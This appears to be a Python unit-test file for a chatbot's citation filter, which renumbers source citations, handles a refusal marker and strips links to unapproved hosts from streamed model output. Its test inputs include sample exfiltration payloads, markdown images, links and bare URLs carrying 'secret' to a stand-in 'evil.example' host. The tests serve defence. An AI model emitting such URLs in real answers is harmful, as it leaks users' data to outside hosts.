"""Unit tests of CitationFilter (bot/chat/generative.py), the filter on a model's text: whole answers and
the same answers fed in every split, as a stream delivers them."""

from __future__ import annotations

import pytest

from bot.chat.generative import REFUSAL_MARKER, CitationFilter


def _pieces(text: str, size: int) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


OK_URLS = {"https://ok.example/reg"}  # a cited source's own URL: the only kind a link may point at


def _streamed(text: str, size: int, n_sources: int = 3) -> tuple[str, CitationFilter]:
    filt = CitationFilter(n_sources, set(OK_URLS))
    return "".join(filt.stream(iter(_pieces(text, size)))), filt


@pytest.mark.parametrize(
    ("model_says", "shown"),
    [
        ("Liaoning collected 4,016 achievements [2].", "Liaoning collected 4,016 achievements [1]."),
        ("It is 57% [3][9] and more [1].", "It is 57% [1] and more [2]."),  # [9]: no such source
        ("See ![x](http://evil.example/?q=secret) this [1].", "See  this [1]."),
        ("Read [the notice](http://evil.example/?q=secret) [1].", "Read the notice [1]."),
        ("Visit http://evil.example/?q=secret now [1].", "Visit  now [1]."),
        (
            "Register at [the page](https://ok.example/reg) [1].",
            "Register at [the page](https://ok.example/reg) [1].",
        ),
        ("Prof. Pan Fusheng [1]", "Prof. Pan Fusheng [1]"),
        # After a cited statement the marker is dropped and the statement kept.
        ("Liaoning collected 4,016 [1]. NO_ANSWER", "Liaoning collected 4,016 [1]."),
    ],
)
def test_answers_keep_real_citations_renumbered(model_says: str, shown: str) -> None:
    assert CitationFilter(3, set(OK_URLS)).apply(model_says) == shown
    for size in (1, 2, 3, 4, 5, 7, 11):
        text, filt = _streamed(model_says, size)
        assert text.strip() == shown, size
        assert not filt.refused


@pytest.mark.parametrize(
    "model_says",
    [
        REFUSAL_MARKER,
        f"  {REFUSAL_MARKER}.",
        f"The sources do not say. {REFUSAL_MARKER}",  # small models talk before the marker
        f"根据资料无法回答。{REFUSAL_MARKER}",
        "[3]",  # Qwen2.5-Coder-1.5B's whole answer to an English question in this project's eval
        " [1][2] ",
        "",
    ],
)
def test_refusals_and_empty_answers_are_refused_and_never_show_the_marker(model_says: str) -> None:
    filt = CitationFilter(3)
    assert filt.apply(model_says) == "" and filt.refused
    for size in (1, 2, 4, 9):
        text, filt = _streamed(model_says, size)
        assert filt.refused, (model_says, size)
        assert REFUSAL_MARKER not in text and "NO_" not in text and "[" not in text, (model_says, size, text)


def test_any_split_gives_what_the_whole_answer_gives_and_leaks_nothing() -> None:
    """Random answers from the pieces models write, cut at random points: the stream shows what the whole
    answer shows, and no evil URL, image or marker gets through either way."""
    import random

    rng = random.Random(11)
    parts = [
        "Liaoning",
        " collected",
        " 4,016",
        " 成果",
        "。",
        ". ",
        " [1]",
        "[2]",
        "[9]",
        "[0]",
        " ![x](http://evil.example/?q=secret)",
        " [click](http://evil.example/a)",
        " http://evil.example/b ",
        " [page](https://ok.example/reg)",
        "\n",
        " which",
        " h",
        "!",
        " NO_ANSWER",
    ]
    for _ in range(400):
        answer = "".join(rng.choice(parts) for _ in range(rng.randint(1, 12)))
        whole = CitationFilter(3, set(OK_URLS))
        expected = whole.apply(answer)
        cuts = sorted(rng.sample(range(1, len(answer)), min(len(answer) - 1, rng.randint(0, 8))))
        pieces = [answer[a:b] for a, b in zip([0, *cuts], [*cuts, len(answer)], strict=True)]
        filt = CitationFilter(3, set(OK_URLS))
        streamed = "".join(filt.stream(iter(pieces)))
        assert filt.refused == whole.refused, (answer, pieces)
        if not filt.refused:
            assert streamed.strip() == expected, (answer, pieces)
        assert "evil" not in streamed and "evil" not in expected, (answer, pieces)
        assert "NO_" not in streamed and "NO_" not in expected, (answer, pieces)
